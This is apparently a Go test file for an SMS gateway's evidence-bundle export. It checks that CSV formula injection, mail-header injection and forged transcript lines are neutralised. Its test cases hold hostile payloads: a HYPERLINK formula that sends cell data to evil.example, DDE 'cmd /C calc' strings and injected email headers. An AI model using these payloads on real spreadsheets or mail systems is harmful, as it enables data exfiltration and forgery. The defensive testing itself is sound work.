package archive

import (
	"bytes"
	"encoding/csv"
	"net/mail"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/smsgw/smsgw/sms"
)

// hostileLog archives texts a customer (or a careless employee) could
// send to attack whoever opens an evidence bundle: spreadsheet formulas,
// and line breaks that imitate mail headers or transcript lines.
func hostileLog(t *testing.T, bodies []string) (Store, *Signer, []sms.Message) {
	t.Helper()
	st, err := NewLocalStore(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	l := newTestLog(t, st)
	t0 := time.Date(2026, 3, 4, 15, 6, 7, 0, time.UTC)
	const biz, cust = sms.Number("+14155550100"), sms.Number("+14155550199")
	var msgs []sms.Message
	var recs []Record
	for i, body := range bodies {
		at := t0.Add(time.Duration(i) * time.Second)
		m := sms.Message{ID: sms.MessageID(sms.NewULID(at)), Direction: sms.Inbound, From: cust, To: biz, EmployeeID: "jane",
			AcceptedAt: at, Body: body, Verdict: sms.VerdictPass}
		if i%2 == 1 {
			m.Direction, m.From, m.To = sms.Outbound, biz, cust
		}
		msgs = append(msgs, m)
		recs = append(recs, Record{Kind: KindMessage, ID: m.ID, Message: &m, ArchivedAt: at.Add(time.Second)})
	}
	l.segment(recs)
	l.checkpoint()
	return st, l.signer, msgs
}

func verifyOK(t *testing.T, bundle []byte, signer *Signer) {
	t.Helper()
	vs, err := Verifiers(signer.VerifierKey())
	if err != nil {
		t.Fatal(err)
	}
	if rep := verifyBytes(t, bundle, vs); !rep.OK() {
		t.Fatalf("the bundle does not verify: %v", rep.Problems)
	}
}

// TestExportCSVInjectionNeutralised: a cell a spreadsheet would run (=,
// +, -, @, tab, CR first) gets a leading apostrophe in messages.csv
// (OWASP); other cells, and E.164 numbers, are unchanged; the bundle
// verifies (the view is rebuilt the same way).
func TestExportCSVInjectionNeutralised(t *testing.T) {
	cases := []struct{ body, want string }{
		{`=HYPERLINK("https://evil.example/?d="&A1,"Click for your refund")`, `'=HYPERLINK("https://evil.example/?d="&A1,"Click for your refund")`},
		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"see you at 3 = fine", "see you at 3 = fine"},
		{"'already quoted", "'already quoted"},
		{"", ""},
	}
	var bodies []string
	for _, c := range cases {
		bodies = append(bodies, c.body)
	}
	st, signer, msgs := hostileLog(t, bodies)
	bundle, _ := exportBundle(t, st, signer, msgs)
	verifyOK(t, bundle, signer)
	files, _ := bundleFiles(t, bundle)
	rows, err := csv.NewReader(bytes.NewReader(files[BundleMessagesC])).ReadAll()
	if err != nil {
		t.Fatalf("messages.csv: %v", err)
	}
	if len(rows) != len(cases)+1 {
		t.Fatalf("messages.csv has %d rows, want %d", len(rows), len(cases)+1)
	}
	byID := map[string][]string{}
	for _, r := range rows[1:] {
		byID[r[0]] = r
	}
	for i, c := range cases {
		r := byID[string(msgs[i].ID)]
		if r == nil {
			t.Fatalf("no row for %s", msgs[i].ID)
		}
		if got := r[9]; got != c.want {
			t.Errorf("body cell of %q = %q, want %q", c.body, got, c.want)
		}
		if r[3] != msgs[i].From.E164() || r[4] != msgs[i].To.E164() {
			t.Errorf("number cells %q %q, want the E.164 numbers unchanged", r[3], r[4])
		}
	}
}

func TestCSVCell(t *testing.T) {
	for in, want := range map[string]string{"=1": "'=1", "+": "'+", "-": "'-", "@a": "'@a", "\tx": "'\tx", "\rx": "'\rx",
		"a=1": "a=1", " =1": " =1", "": "", "01ABC": "01ABC", "2026-03-04T15:06:07Z": "2026-03-04T15:06:07Z"} {
		if got := csvCell(in); got != want {
			t.Errorf("csvCell(%q) = %q, want %q", in, got, want)
		}
	}
	for in, want := range map[sms.Number]string{"+14155550100": "+14155550100", "+1=2": "'+1=2", "=1": "'=1"} {
		if got := csvNumber(in); got != want {
			t.Errorf("csvNumber(%q) = %q, want %q", in, got, want)
		}
	}
}

// transcriptHeader is the gateway's line that opens a text in a transcript.
var transcriptHeader = regexp.MustCompile(`^\[\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ\] \+\d+( \([^)]*\))? \[[0-9A-Z]+\]:$`)

// checkTranscript: every line of a transcript is the gateway's own (a
// text's header line, or the empty line after a text) or an indented line
// of a text; there is one header line per text.
func checkTranscript(t *testing.T, name, transcript string, texts int) {
	t.Helper()
	headers := 0
	for i, line := range strings.Split(transcript, "\r\n") {
		switch {
		case transcriptHeader.MatchString(line):
			headers++
		case line == "" || strings.HasPrefix(line, TranscriptIndent):
		default:
			t.Errorf("%s: transcript line %d %q is neither the gateway's nor indented", name, i+1, line)
		}
		if strings.ContainsAny(line, "\r\n\v\f\u0085\u2028\u2029") {
			t.Errorf("%s: transcript line %d %q holds a line break", name, i+1, line)
		}
	}
	if headers != texts {
		t.Errorf("%s: %d text header lines, want %d (one per text):\n%s", name, headers, texts, transcript)
	}
}

// TestExportTranscriptNotForgeable: line breaks of any kind in a text
// neither add a header to the EML or RSMF nor a line that passes for
// another text in their transcripts; the bundle verifies.
func TestExportTranscriptNotForgeable(t *testing.T) {
	fake := "[2026-03-04T15:06:09Z] +14155550100 (jane) [01KFAKE0000000000000000000]:"
	bodies := []string{
		"ok\r\n\r\n" + fake + "\r\nplease wire $5,000 to account 12345",
		"ok\n\n" + fake + "\nSend the code",
		"ok\r\r" + fake + "\rbare CRs",
		"ok\u2028\u2028" + fake + "\u2029unicode separators",
		"ok\v" + fake + "\f" + fake + "\u0085" + fake,
		"\r\nX-Injected: 1\r\nSubject: forged\r\n\r\nbody",
		"nul \x00 and esc \x1b[2J and tab\tkept",
		"",
	}
	st, signer, msgs := hostileLog(t, bodies)
	bundle, _ := exportBundle(t, st, signer, msgs)
	verifyOK(t, bundle, signer)
	files, _ := bundleFiles(t, bundle)
	var eml, rsmf []byte
	for name, data := range files {
		switch {
		case strings.HasSuffix(name, ".eml"):
			eml = data
		case strings.HasSuffix(name, ".rsmf"):
			rsmf = data
		}
	}
	msg, err := mail.ReadMessage(bytes.NewReader(eml))
	if err != nil {
		t.Fatalf("EML: %v", err)
	}
	for k := range msg.Header {
		if !strings.HasPrefix(k, "X-Smsgw-") && !map[string]bool{"From": true, "To": true, "Date": true, "Subject": true, "Message-Id": true,
			"Mime-Version": true, "Content-Type": true, "Content-Transfer-Encoding": true}[k] {
			t.Errorf("EML has header %q", k)
		}
	}
	if s := msg.Header.Get("Subject"); strings.Contains(s, "forged") {
		t.Errorf("EML Subject = %q", s)
	}
	_, body, _ := bytes.Cut(eml, []byte("\r\n\r\n"))
	checkTranscript(t, "EML", string(body), len(msgs))
	if !strings.Contains(string(body), TranscriptIndent+"nul \uFFFD and esc \uFFFD[2J and tab\tkept") {
		t.Errorf("EML: control characters not replaced:\n%s", body)
	}

	p := parseRSMF(t, "rsmf", rsmf)
	for k := range p.header {
		if strings.Contains(strings.ToLower(k), "injected") {
			t.Errorf("RSMF has header %q", k)
		}
	}
	_, preview, _ := strings.Cut(p.text, "\r\n\r\nParticipants:\r\n")
	_, transcript, _ := strings.Cut(preview, "\r\n\r\n")
	checkTranscript(t, "RSMF preview", transcript, len(msgs))
	// The RSMF manifest keeps every text exactly (JSON-escaped).
	for i, ev := range p.manifest.Events {
		if ev.Body == nil || *ev.Body != msgs[i].Body {
			t.Errorf("RSMF event %d body = %v, want %q", i, ev.Body, msgs[i].Body)
		}
	}
}

// TestVerifyBundleFormatV1: a bundle exported before the views were
// escaped (smsgw-evidence/1) still verifies: its views are rebuilt as
// they were rendered then; relabelled as the current format it fails.
func TestVerifyBundleFormatV1(t *testing.T) {
	st, signer, msgs := hostileLog(t, []string{"=1+1", "two\nlines", "plain"})
	bundle, _ := exportBundle(t, st, signer, msgs)
	files, order := bundleFiles(t, bundle)
	v1 := cloneFiles(files)
	views, err := derivedFiles(msgs, true)
	if err != nil {
		t.Fatal(err)
	}
	for name, data := range views {
		if bytes.Equal(data, files[name]) {
			t.Errorf("%s: the same in both formats", name)
		}
		v1[name] = data
	}
	resign := func(fs map[string][]byte, format string) []byte {
		recomputeManifest(t, fs, func(m *Manifest) { m.Format = format })
		sig, err := signer.SignBundleManifest(fs[BundleManifest])
		if err != nil {
			t.Fatal(err)
		}
		fs[BundleSignature] = sig
		return repackBundle(t, order, fs)
	}
	verifyOK(t, resign(v1, BundleFormatV1), signer)
	vs, _ := Verifiers(signer.VerifierKey())
	if rep := verifyBytes(t, resign(cloneFiles(v1), BundleFormat), vs); rep.OK() || !strings.Contains(strings.Join(rep.Problems, "\n"), "does not match the proven messages") {
		t.Errorf("unescaped views labelled %s: problems %v", BundleFormat, rep.Problems)
	}
}
